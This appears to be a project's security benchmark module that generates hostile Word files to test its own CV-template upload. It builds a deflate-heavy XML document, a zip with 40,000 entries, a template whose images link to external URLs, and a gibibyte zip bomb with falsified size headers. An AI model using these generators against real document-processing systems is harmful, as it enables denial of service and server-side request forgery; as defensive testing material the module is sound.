// Word files an attacker would upload as a sport's CV template (issue 25, bench/attack.mjs), written
// byte by byte so that the zip can say what it likes about itself: a .docx whose document is tens
// of megabytes of XML that deflate to almost nothing, one with tens of thousands of entries, one
// whose images are links to a web address, and a zip bomb whose headers declare a few kilobytes
// for an entry that inflates to a gibibyte.
import { createDeflateRaw, deflateRawSync } from 'node:zlib';

// --- Zip ------------------------------------------------------------------------------------------
const CRC_TABLE = (() => {
  const table = new Int32Array(256);
  for (let n = 0; n < 256; n += 1) {
    let c = n;
    for (let k = 0; k < 8; k += 1) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    table[n] = c;
  }
  return table;
})();

/** CRC-32 of `bytes`, continuing from `crc` (0 to start). */
export function crc32(bytes, crc = 0) {
  let c = ~crc;
  for (let i = 0; i < bytes.length; i += 1) c = CRC_TABLE[(c ^ bytes[i]) & 0xff] ^ (c >>> 8);
  return ~c >>> 0;
}

/**
 * One entry as it is stored: its name, method (0 stored, 8 deflated), CRC-32, the compressed bytes,
 * its real uncompressed size and the size its headers declare (the real one unless told otherwise).
 */
export function entry(name, data, { method = 8 } = {}) {
  const bytes = typeof data === 'string' ? Buffer.from(data, 'utf8') : data;
  const compressed = method === 8 ? deflateRawSync(bytes, { level: 9 }) : bytes;
  return { name, method, crc: crc32(bytes), compressed, size: bytes.length, declaredSize: bytes.length };
}

/** A zip file (no data descriptors, no zip64) of entries made by `entry` or by hand. */
export function zip(entries) {
  const locals = [];
  const centrals = [];
  let offset = 0;
  for (const item of entries) {
    const name = Buffer.from(item.name, 'utf8');
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4); // version needed
    local.writeUInt16LE(0x0800, 6); // UTF-8 names
    local.writeUInt16LE(item.method, 8);
    local.writeUInt32LE(0, 10); // time and date
    local.writeUInt32LE(item.crc, 14);
    local.writeUInt32LE(item.compressed.length, 18);
    local.writeUInt32LE(item.declaredSize, 22);
    local.writeUInt16LE(name.length, 26);
    local.writeUInt16LE(0, 28);
    locals.push(local, name, item.compressed);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4); // made by
    central.writeUInt16LE(20, 6); // needed
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt16LE(item.method, 10);
    central.writeUInt32LE(0, 12);
    central.writeUInt32LE(item.crc, 16);
    central.writeUInt32LE(item.compressed.length, 20);
    central.writeUInt32LE(item.declaredSize, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    centrals.push(central, name);
    offset += 30 + name.length + item.compressed.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length > 0xffff ? 0xffff : entries.length, 8);
  end.writeUInt16LE(entries.length > 0xffff ? 0xffff : entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  if (entries.length > 0xffff) throw new Error('zip(): more than 65,535 entries needs zip64');
  return Buffer.concat([...locals, directory, end]);
}

// --- Word ------------------------------------------------------------------------------------------
const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const CONTENT_TYPES =
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
  '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
  '<Default Extension="xml" ContentType="application/xml"/>' +
  '<Default Extension="png" ContentType="image/png"/>' +
  '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>' +
  '</Types>';
const PACKAGE_RELS =
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
  '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
  '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>' +
  '</Relationships>';
const DOCUMENT_START =
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
  `<w:document xmlns:w="${W}" xmlns:r="${R}" ` +
  'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" ' +
  'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" ' +
  'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><w:body>';
const DOCUMENT_END = '<w:sectPr/></w:body></w:document>';
/** The placeholders a CV template fills (docs/operations.md, "CV PDFs"): the player's name. */
const NAME_PARAGRAPH = '<w:p><w:r><w:t xml:space="preserve">{firstName} {lastName}</w:t></w:r></w:p>';
const paragraph = (text) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;

/** The parts every .docx has, with `document` as word/document.xml, plus `more` entries. */
const docx = (document, more = []) =>
  zip([
    entry('[Content_Types].xml', CONTENT_TYPES),
    entry('_rels/.rels', PACKAGE_RELS),
    entry('word/document.xml', document),
    ...more,
  ]);

/** A well-formed template whose document.xml is about `megabytes` MB of paragraphs (finding 2). */
export function heavyXmlDocx(megabytes = 45) {
  const one = paragraph('Lorem ipsum dolor sit amet, consectetur adipiscing.');
  const count = Math.ceil((megabytes * 1024 * 1024) / one.length);
  const document = DOCUMENT_START + NAME_PARAGRAPH + one.repeat(count) + DOCUMENT_END;
  return { bytes: docx(document), xmlBytes: Buffer.byteLength(document), paragraphs: count };
}

/** A well-formed template with `count` extra entries of a few bytes each (finding 2). */
export function manyEntriesDocx(count = 40_000) {
  const extra = Array.from({ length: count }, (_, index) => entry(`e/${index}.xml`, '<a/>', { method: 0 }));
  return docx(DOCUMENT_START + NAME_PARAGRAPH + DOCUMENT_END, extra);
}

/**
 * A template showing `count` images that are links (external relationships, `r:link`) to
 * `urlOf(index)`: whatever renders it fetches them (finding 3).
 */
export function linkedImagesDocx(count, urlOf) {
  const drawing = (index) =>
    '<w:p><w:r><w:drawing><wp:inline distT="0" distB="0" distL="0" distR="0">' +
    `<wp:extent cx="95250" cy="95250"/><wp:docPr id="${index + 1}" name="Picture ${index + 1}"/>` +
    '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic>' +
    `<pic:nvPicPr><pic:cNvPr id="${index + 1}" name="link${index}.png"/><pic:cNvPicPr/></pic:nvPicPr>` +
    `<pic:blipFill><a:blip r:link="rIdLink${index}"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>` +
    '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="95250" cy="95250"/></a:xfrm>' +
    '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic>' +
    '</wp:inline></w:drawing></w:r></w:p>';
  const images = Array.from({ length: count }, (_, index) => drawing(index)).join('');
  const rels =
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
    Array.from(
      { length: count },
      (_, index) =>
        `<Relationship Id="rIdLink${index}" Type="${R}/image" Target="${urlOf(index)}" TargetMode="External"/>`,
    ).join('') +
    '</Relationships>';
  return docx(DOCUMENT_START + NAME_PARAGRAPH + images + DOCUMENT_END, [
    entry('word/_rels/document.xml.rels', rels),
  ]);
}

/**
 * A zip bomb shaped as a .docx: word/document.xml inflates to `gibibytes` GiB (an unclosed text run
 * of "A"s), deflated to about a thousandth of that, while its headers declare `declaredSize` bytes.
 * The CRC is the real one. Takes a few seconds (the gibibyte is deflated and summed as a stream).
 */
export async function zipBombDocx({ gibibytes = 1, declaredSize = 4096 } = {}) {
  const start = Buffer.from(`${DOCUMENT_START}<w:p><w:r><w:t>`, 'utf8');
  const chunk = Buffer.alloc(1024 * 1024, 'A');
  const chunks = Math.round(gibibytes * 1024);
  const deflater = createDeflateRaw({ level: 9 });
  const out = [];
  deflater.on('data', (data) => out.push(data));
  const done = new Promise((resolve, reject) => deflater.on('end', resolve).on('error', reject));
  const write = (data) =>
    deflater.write(data) ? Promise.resolve() : new Promise((resolve) => deflater.once('drain', resolve));
  let crc = crc32(start);
  await write(start);
  // Every chunk is the same: its CRC step is the same table walk, but each must still be summed.
  for (let index = 0; index < chunks; index += 1) {
    crc = crc32(chunk, crc);
    await write(chunk);
  }
  deflater.end();
  await done;
  const compressed = Buffer.concat(out);
  const size = start.length + chunks * chunk.length;
  const bomb = { name: 'word/document.xml', method: 8, crc, compressed, size, declaredSize };
  return {
    bytes: zip([entry('[Content_Types].xml', CONTENT_TYPES), entry('_rels/.rels', PACKAGE_RELS), bomb]),
    inflatedBytes: size,
    declaredSize,
  };
}
